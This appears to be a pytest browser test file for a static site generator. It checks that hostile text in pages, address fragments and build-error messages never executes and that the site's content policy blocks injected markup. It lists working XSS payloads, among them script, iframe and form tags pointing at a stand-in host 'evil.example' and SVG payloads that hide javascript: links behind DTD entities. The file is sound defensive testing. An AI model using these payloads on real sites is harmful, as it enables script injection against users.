"""Nothing in a record runs, in a browser: every kind of hostile page with an alert trap, and what its policy stops."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from steelyard.core.attachments import runs
from steelyard.doors.serve.server import Server
from trust.hostile_sites import HOST, LIVE, TRAP, hostile_site, some_of, using, window
from trust.hostile_texts import ALL, BREAKOUTS, MARKUP, STYLES

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

    from trust.hostile_sites import Window

KINDS_OF_PAGE = (
    "index.html", "timeline.html", "graph.html", "scores.html", "timeline/by-status.html", "sources/one.html",
    "statuses/other.html", "statuses/proposed.html", "404.html", "d/one/0001-x.html", "d/one/0008-x.html",
)  # fmt: skip
"""Pages whose controls are all used; the eighth record and its multiples have diagrams."""
STATES = {
    "index.html": ("q", "status", "tag", "person", "year", "source", "sort", "on", "find"),
    "graph.html": ("focus", "depth", "tag", "status", "zoom", "__proto__", "constructor"),
    "timeline.html": ("on", "__proto__"),
    "scores.html": ("what-if", "on"),
    "d/one/0008-x.html": ("what-if", "what-if=scores:w", "x", "scores"),
}
"""What pages read of their addresses."""
WALK = """async ([keys, texts]) => {
  const pause = () => new Promise(done => setTimeout(done, 0));
  for (const key of keys) for (const text of texts) {
    for (const state of [`${key}=${encodeURIComponent(text)}`, `${key}=${text}`, `${encodeURIComponent(text)}=${key}`]) {
      location.hash = state;
      await pause();
    }
  }
  location.hash = "";
}"""


SETTLED = """async () => {
  for (const source of document.querySelectorAll("pre.mermaid")) {
    source.scrollIntoView();
    for (let tries = 0; !source.closest(".sy-diagram") && !source.parentElement.querySelector(".sy-fault"); tries++) {
      if (tries > 600) throw new Error("a diagram is neither drawn nor refused");
      await new Promise(done => setTimeout(done, 50));
    }
  }
  scrollTo(0, 0);
}"""
"""Goes to each diagram and waits until it is drawn, or found to be none."""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, *, long_form: bool) -> Path:
    """Build the site in which each text is in each field, once for all workers."""
    return hostile_site(tmp_path_factory, long=long_form)


def quiet(heard: Window, where: str) -> None:
    """See that nothing ran, nothing was stopped that tried to, and nothing was asked of another host."""
    assert heard.said == [], where
    assert heard.beyond == [], where


@pytest.mark.parametrize("name", KINDS_OF_PAGE)
def test_nothing_fires_while_a_page_is_used(
    chromium: Browser, site: Path, name: str, *, long_form: bool
) -> None:
    """All controls are used and hostile texts typed wherever one can type: nothing runs, leads away or breaks the policy."""
    typed = some_of(long=long_form)[:: 1 if long_form else 12]
    with window(chromium, site) as heard:
        page = heard.tab()
        page.goto(HOST + name)
        page.evaluate(SETTLED)
        assert page.evaluate(using(typed)) > 0
        assert page.url.partition("#")[0] == HOST + name, "a control led away"
        assert page.evaluate(LIVE) == []
        quiet(heard, name)


def test_nothing_fires_on_any_page(chromium: Browser, site: Path, *, long_form: bool) -> None:
    """Page after page is opened, published and from disk: what it comes to holds nothing that runs, and nothing ran.

    The short form opens a part of the pages, all of them stand in the test of files.
    """
    pages = sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))
    chosen = pages if long_form else pages[::7]
    with window(chromium, site) as heard:
        page = heard.tab()
        for number, name in enumerate(chosen):
            disk = number % 2 == 1 and name != "404.html"
            address = (site / name).as_uri() if disk else HOST + quote(name)
            page.goto(address, wait_until="load")
            page.evaluate(SETTLED)
            assert page.evaluate(LIVE) == [], name
            quiet(heard, name)


@pytest.mark.parametrize("name", STATES)
def test_no_state_of_an_address_fires(chromium: Browser, site: Path, name: str, *, long_form: bool) -> None:
    """Whatever stands behind `#` and `?` of a page's address, under each key that it reads, is text at the most."""
    texts = [text for text in some_of(long=long_form)[:: 1 if long_form else 9] if text.isprintable()]
    with window(chromium, site) as heard:
        page = heard.tab()
        page.goto(f"{HOST}{name}?q={quote(texts[0])}&build={quote(texts[-1])}")
        page.evaluate(WALK, [list(STATES[name]), texts])
        for text in texts[:3]:
            page.goto(f"{HOST}{name}?{quote(text)}#{STATES[name][0]}={quote(text)}")
            page.reload()
        assert page.evaluate(LIVE) == []
        assert page.evaluate("({}).innerHTML === undefined && ({}).x === undefined")
        quiet(heard, name)


def test_the_trap_is_open(chromium: Browser, site: Path, *, long_form: bool) -> None:
    """Without our pages around them the texts do run: many of those that need no hand fire as they are, and are heard."""
    texts = MARKUP if long_form else MARKUP[::5]
    fired = []
    with window(chromium, site) as heard:
        page = heard.tab()
        for text in texts:
            heard.said.clear()
            heard.beyond.clear()
            heard.raw["raw.html"] = f"<!doctype html><title>x</title><body>{text}"
            page.goto(HOST + "raw.html", wait_until="load")
            page.wait_for_timeout(30)
            if heard.said or heard.beyond:
                fired.append(text)
        assert len(fired) > len(texts) / 3, fired


INJECTED = (
    "<script>alert(1)</script>",
    "<img src=missing.png onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module src=https://evil.example/m.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/f></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:red}</style>",
    "<base href=//evil.example/>",
    "<video src=//evil.example/v autoplay></video>",
    "<a class=hit href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example/form><button class=hit>x</button></form>",
    "<form action='javascript:alert(1)'><button class=hit>x</button></form>",
    "<a class=hit href='#' ping=//evil.example/ping>x</a>",
    "<button class=hit onclick=alert(1)>x</button>",
)
"""What a hole in the pages could let through, as it would run."""


@pytest.mark.parametrize("name", ["index.html", "d/one/0008-x.html"])
def test_the_policy_stops_what_would_come_through(chromium: Browser, site: Path, name: str) -> None:
    """Put raw into a page, behind all that the pages do against it, each kind is stopped by the policy, and told.

    Only pages with diagrams, which mermaid styles, let a style through; a script of the site's own is never stopped.
    """
    original = (site / name).read_text("utf-8")
    loose = "'unsafe-inline'" in original
    with window(chromium, site) as heard:
        page = heard.tab()
        for text in INJECTED:
            heard.said.clear()
            heard.beyond.clear()
            heard.raw[name] = original.replace('<main id="sy-main"', f'{text}<main id="sy-main"', 1)
            page.goto(HOST + name, wait_until="load")
            for hit in page.query_selector_all(".hit"):
                hit.evaluate("node => node.click()")
            heard.wait(page)
            assert heard.fired() == [], text
            assert heard.beyond == [], text
            assert page.url.partition("#")[0] == HOST + name, text
            stopped = [line for line in heard.said if line.startswith("policy:")]
            assert stopped or (loose and text.startswith("<style")), text


NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'
BOX = '<rect width="200" height="200"/>'
XHTML = '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">'
DRAWINGS = {
    "script": f"<svg {NS}><script>alert(1)</script></svg>",
    "handler": f'<svg {NS} onload="alert(1)"/>',
    "link": f'<svg {NS}><a href="javascript:alert(1)">{BOX}</a></svg>',
    "old link": f'<svg {NS}><a x:href=" java&#10;script&#58;alert(1)">{BOX}</a></svg>',
    "set": f'<svg {NS}><a>{BOX}<set attributeName="href" to="javascript&#58;alert(1)"/></a></svg>',
    "frame": f'<svg {NS}><foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject></svg>',
    "refresh": f'<svg {NS}><h:meta http-equiv="refresh" content="0;url=https://evil.example/"/></svg>',
    "names of HTML": f'{XHTML}<svg {NS}><a href="javascript&colon;alert(1)">{BOX}</a></svg>',
    "blanks of HTML": f'{XHTML}<svg {NS}><a href="java&Tab;script&colon;alert(1)">{BOX}</a></svg>',
    "names of MathML": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD MathML 2.0//EN" "x"><svg {NS}><a href="javascript&colon;alert(1)">{BOX}</a></svg>',
    "after a file's entity": f'<!DOCTYPE svg [<!ENTITY % f SYSTEM "f"> %f; <!ENTITY c ":">]><svg {NS}><a href="javascript&c;alert(1)">{BOX}</a></svg>',
    "inside an entity": f'<!DOCTYPE svg [<!ENTITY % f "<!ENTITY c \':\'>"> %f;]><svg {NS}><a href="javascript&c;alert(1)">{BOX}</a></svg>',
    "entity of markup": f'<!DOCTYPE svg [<!ENTITY s "&#60;script xmlns=\'http://www.w3.org/2000/svg\'>alert(1)&#60;/script>">]><svg {NS}>&s;</svg>',
    "default": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {NS}/>',
}  # fmt: skip
"""Drawings that run where a browser opens them as a page."""
REFUSED = {
    "used drawing": f'<svg {NS}><use href="data:image/svg+xml,&lt;svg id=&apos;x&apos; onload=&apos;alert(1)&apos;/>#x"/></svg>',
    "unknown entity": f"<!DOCTYPE svg [ %none; ]><svg {NS}/>",
    "style sheet": f'<?xml-stylesheet href="x"?><svg {NS}/>',
}
"""Drawings that this browser does not run, and others did."""
HARMLESS = {
    "plain": f"<svg {NS}>{BOX}</svg>",
    "set handler": f'<svg {NS}><g>{BOX}<set attributeName="onclick" to="alert(1)"/></g></svg>',
    "own DOCTYPE": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY ns "http://x">]><svg {NS} xmlns:n="&ns;">{BOX}</svg>',
}


@pytest.mark.parametrize("name", DRAWINGS)
def test_a_drawing_that_runs_is_no_attachment(
    chromium: Browser, site: Path, tmp_path: Path, name: str
) -> None:
    """What runs when a browser opens it as a page, it and a click on it, is found, so that it never comes into a site."""
    (tmp_path / "drawing.svg").write_text(DRAWINGS[name], encoding="utf-8")
    with window(chromium, site) as heard:
        page = heard.tab()
        page.goto((tmp_path / "drawing.svg").as_uri())
        if "<a" in DRAWINGS[name]:
            page.mouse.click(50, 50)
        heard.wait(page)
        assert heard.said or heard.beyond, "it would be no test"
    assert runs(DRAWINGS[name].encode())


def test_drawings_are_refused_by_a_rule_and_others_pass(
    chromium: Browser, site: Path, tmp_path: Path
) -> None:
    """What another browser may run is refused too; a drawing that passes is silent in the browser, clicks and all."""
    assert [name for name, text in REFUSED.items() if not runs(text.encode())] == []
    with window(chromium, site) as heard:
        page = heard.tab()
        for name, text in HARMLESS.items():
            assert runs(text.encode()) == "", name
            (tmp_path / "drawing.svg").write_text(text, encoding="utf-8")
            page.goto((tmp_path / "drawing.svg").as_uri())
            page.mouse.click(50, 50)
            quiet(heard, name)


def test_a_failure_told_to_an_open_page_is_text(chromium: Browser, site: Path) -> None:
    """`serve` tells an open page of a failed build: every text in it, raw in the finding, is shown and nothing runs."""
    told = "\n".join(text.replace("\x00", "") for text in ALL)
    server = Server(site, port=0)
    server.start()
    try:
        context = chromium.new_context()
        context.add_init_script(TRAP)
        said: list[str] = []
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text))
        page.goto(server.url)
        server.fail(told)
        alert = page.get_by_role("alert").filter(has_text="alert(1)")
        alert.wait_for()
        shown = re.sub(r"\s+", "", alert.text_content() or "")
        for text in (*BREAKOUTS, *STYLES):
            assert re.sub(r"\s+", "", text) in shown
        assert page.evaluate(LIVE) == []
        assert [line for line in said if line.startswith(("trap:", "policy:"))] == []
        context.close()
    finally:
        server.stop()
